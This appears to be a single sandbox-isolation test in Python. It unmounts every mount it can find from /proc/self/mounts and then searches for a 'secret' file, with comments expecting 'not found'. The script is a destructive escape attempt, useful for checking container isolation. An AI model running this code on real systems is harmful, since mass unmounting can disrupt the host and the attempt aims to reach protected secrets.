# Unmounts all that it can, one after the other, and looks what lay beneath.
# says: not found
# control: no, it would unmount the host
from attack import TARGETS, call, everywhere

for line in reversed(open("/proc/self/mounts").read().splitlines()):
    point = line.split()[1]
    if point not in ("/proc", "/tmp", "/usr"):
        try:
            call("umount2", point.encode(), 2)
        except OSError:
            pass
print(everywhere(TARGETS["secret"]))
